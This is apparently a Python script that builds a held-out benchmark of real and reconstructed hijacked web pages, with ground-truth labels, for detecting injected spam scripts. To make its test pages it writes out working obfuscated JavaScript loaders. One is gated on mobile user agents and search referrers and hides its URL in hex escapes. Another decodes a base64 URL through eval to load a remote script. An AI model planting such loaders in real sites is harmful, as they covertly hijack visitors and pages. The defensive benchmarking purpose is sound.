import base64, html, json, os, re, sys
sys.path.insert(0, os.path.dirname(__file__))
from cases_spam import S
from cases_comp import C
from cases_legit import L

OUT = sys.argv[1]
os.makedirs(f"{OUT}/html", exist_ok=True)
EMOJI = re.compile("[\U0001F000-\U0001FAFF\u2600-\u27BF\u200d\ufe0f\U00013000-\U0001342F\u2B50-\u2BFF]")
CAPTURE = ("text-only capture from the stored public-web-page corpus of the search tool; HTML markup is a minimal "
           "reconstruction around the captured lines (title/navigation/breadcrumb/headline/info line/body order kept); "
           "spam strings and article text are verbatim from the capture (excerpt, may stop mid-article)")
e = html.escape

def render(c, head_inj="", title_raw=None, body_inj=""):
    t = e(c.get("page_title") or "") if title_raw is None else title_raw
    out = ["<!DOCTYPE html>", f'<html lang="{ "en" if c.get("lang")=="en" else "zh-CN"}">', "<head>", '<meta charset="utf-8">',
           f"<title>{t}</title>"]
    out.append(head_inj) if head_inj else None
    out += ["</head>", "<body>"]
    if c.get("banner"):
        out.append(f'<div class="top-bar">{e(c["banner"])}</div>')
    if c.get("side"):
        out.append('<div class="nav"><ul>' + "".join(f"<li>{e(x)}</li>" for x in c["side"]) + "</ul></div>")
    if c.get("crumb"):
        out.append(f'<div class="position">{e(c["crumb"])}</div>')
    out.append('<div class="main"><div class="article">')
    if c.get("h1"):
        out.append(f"<h1>{e(c['h1'])}</h1>")
    if c.get("info"):
        out.append(f'<div class="info">{e(c["info"])}</div>')
    if c.get("kwline"):
        out.append(f'<div class="tags">{e(c["kwline"])}</div>')
    out.append('<div class="content">')
    out += [f"<p>{e(p)}</p>" for p in c["paras"]]
    out.append("</div>")
    for x in c.get("tail", []):
        out.append(f'<div class="foot-line">{e(x)}</div>')
    out.append("</div></div>")
    if body_inj:
        out.append(body_inj)
    out += ["</body>", "</html>", ""]
    return "\n".join(out)

def clean_text(c, strip):
    lines = []
    for p in c["paras"]:
        for s in sorted(strip, key=len, reverse=True):
            p = p.replace(s, "")
        p = EMOJI.sub("", p).strip()
        if p:
            lines.append(p)
    return "\n".join(lines)

rows, sources = [], []
n = 0
def emit(c, page, text, hijacked, legit, kind, origin, capture, injections, spam, note=None):
    global n
    n += 1
    cid = f"rc2-{n:03d}"
    with open(f"{OUT}/html/{cid}.html", "w", encoding="utf-8") as f:
        f.write(page)
    rows.append(dict(id=cid, url=c["url"], encoding="utf-8", lang=c["lang"], title=c["title"], date=c["date"],
                     source=c["source"], author=c["author"], text=text, hijacked=hijacked, injections=injections,
                     spam_strings=spam, legit=legit, origin=origin, kind=kind, site=c["site"], capture=capture, note=note))
    sources.append(f"- `{cid}` | heldout-v2 | {kind} | {c['site']} | {origin} | page {c['url']} | "
                   + ("third-party public web page, no licence stated (text excerpt)" if kind in ("real-page", "real-legit")
                      else "host: third-party public web page, no licence stated (text excerpt); injected code: quoted from / modelled on a public GitHub issue (licence not stated)"))

for c in S:
    origin = f"pages corpus capture of the URL ({c['desc']}; search: '{c['search']}')"
    emit(c, render(c), clean_text(c, c.get("strip") or c["spam"]), True, False, "real-page", origin, CAPTURE,
         c["injections"], c["spam"], c.get("note"))

def hexesc(s):
    return "".join("\\x%02x" % ord(ch) for ch in s)

for c in C:
    c["lang"] = "zh"
    origin = (f"injection: {c['inj_origin']}; placed {c['inj_place']} | host: pages corpus capture of {c['url']} "
              f"({c['host_desc']}; search: '{c['host_search']}')")
    capture = CAPTURE + "." + c["capture_extra"]
    if c["snippet"] and c["snippet"].startswith("<script/**/"):
        title_raw = e(c["page_title"]) + c["snippet"]
        head = f'<meta name="keywords" content="{e(c["page_title"])}{c["snippet"].replace(chr(34), "")}">'
        page = render(c, head_inj=head, title_raw=title_raw)
    elif c["snippet"] == "SOJSON":
        from snippets import SOJSON_REFERRER
        page = render(c, head_inj='<script type="text/javascript">' + SOJSON_REFERRER + "</script>")
    elif c["snippet"] == "PUTTOP":
        from snippets import PUTTOP
        page = render(c, body_inj="<script>" + PUTTOP + "</script>")
    elif c["snippet"] is None:
        probs = "[0.1,0.1,0.1,0.1,0.1,0.1,0.2,0.3,0.5,0.5,0.5,0.4,0.6,0.6,0.5,0.5,0.5,0.6,0.8,0.9,0.9,0.9,0.7,0.3]"
        js = ("<script>(function(){var ua=navigator.userAgent.toLowerCase();"
              "if(!/android|iphone|ipod|ipad|mobile|ucweb|mqqbrowser/.test(ua))return;"
              "var rf=document.referrer.toLowerCase();if(!/baidu\\.com|sogou\\.com|so\\.com|sm\\.cn|bing\\.com/.test(rf))return;"
              f"var p={probs};var h=new Date().getHours();"
              "var m=document.cookie.match(/_hvc=(\\d+)/);var n=(m?parseInt(m[1],10):0)+1;"
              "document.cookie='_hvc='+n+';path=/;max-age=86400';"
              "if(n<3&&Math.random()>p[h])return;"
              "var s=document.createElement('script');s.src='" + hexesc("https://zz.bdustatic.com/linksubmit/push.js") + "';"
              "document.getElementsByTagName('head')[0].appendChild(s);})();</script>")
        page = render(c, body_inj=js)
    else:
        b64 = base64.b64encode(b"https://code.example-cdn.net/jquery.min.js").decode()
        assert b64.startswith("aHR0cHM6Ly9jb2RlL")
        quoted = ("function xxSJRox(e){var t = \"\",n = r = c1 = c2 = 0;while (n < e.length){r = e.charCodeAt(n);if (r < 128){t += String.fromCharCode(r);n++}else if (r > 191 && r < 224){c2 = e.charCodeAt(n + 1);t += String.fromCharCode((r & 31) << 6 | c2 & 63);n += 2}else{c2 = e.charCodeAt(n + 1);c3 = e.charCodeAt(n + 2);t += String.fromCharCode((r & 15) << 12 | (c2 & 63) << 6 | c3 & 63);n += 3}}return t}"
                  "function aPnDhiTia(e){var m = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';var t = \"\",n,r,i,s,o,u,a,f = 0;e = e.replace(/[^A-Za-z0-9+/=]/g,\"\");while (f < e.length){s = m.indexOf(e.charAt(f++));o = m.indexOf(e.charAt(f++));u = m.indexOf(e.charAt(f++));a = m.indexOf(e.charAt(f++));n = s << 2 | o >> 4;r = (o & 15) << 4 | u >> 2;i = (u & 3) << 6 | a;t = t + String.fromCharCode(n);if (u != 64){t = t + String.fromCharCode(r)}if (a != 64){t = t + String.fromCharCode(i)}}return xxSJRox(t)}"
                  "eval('window')['\\x4d\\x66\\x58\\x4b\\x77\\x56'] = function(){;(function(u,r,w,d,f,c){var x = aPnDhiTia;u = decodeURIComponent(x(u.replace(new RegExp(c + '' + c,'g'),c)));'jQuery';k = r[2] + 'c' + f[1];'Flex';v = k + f[6];var s = d.createElement(v + c[0] + c[1]),g = function(){};s.type = 'text/javascript';{s.onload = function(){g()}}s.src = u;'CSS';d.getElementsByTagName('head')[0].appendChild(s)})(")
        js = "<script>" + quoted + f"'{b64}','css','w',document,'Frame2i','pt')}};window['\\x4d\\x66\\x58\\x4b\\x77\\x56']();</script>"
        page = render(c, head_inj=js)
    emit(c, page, clean_text(c, []), True, False, c["kind"], origin, capture, c["injections"], c["spam"])

for c in L:
    origin = f"pages corpus capture of the URL ({c['desc']}; search: '{c['search']}')"
    emit(c, render(dict(c, page_title=c.get("title") or "")), clean_text(c, []), False, True, "real-legit", origin, CAPTURE, [], [])

with open(f"{OUT}/truth.jsonl", "w", encoding="utf-8") as f:
    for r in rows:
        f.write(json.dumps(r, ensure_ascii=False) + "\n")
with open(f"{OUT}/SOURCES.md", "w", encoding="utf-8") as f:
    f.write("# Sources of the real-cases-v2 held-out set\n\n"
            "One line per case: `id` | split | kind | site | origin | page | licence.\n"
            "All pages are rebuilt: the stored public-web-page corpus of the search tool holds page text only, so the HTML is a minimal "
            "reconstruction around the captured lines; spam strings and article texts are verbatim from the capture.\n"
            "`real-injection-in-real-page`: an injected snippet quoted in a public GitHub issue, inserted into a rebuilt real clean page. "
            "`reconstructed-injection-in-real-page`: the injection is written by the keeper from the behaviour described in a public issue "
            "(the `capture` field says which parts are verbatim).\n"
            "None of these URLs, sites, brands or snippets occurs in bench/data/dev/*.\n\n")
    f.write("\n".join(sources) + "\n")
print(len(rows), sum(r["hijacked"] for r in rows), sum(r["legit"] for r in rows))
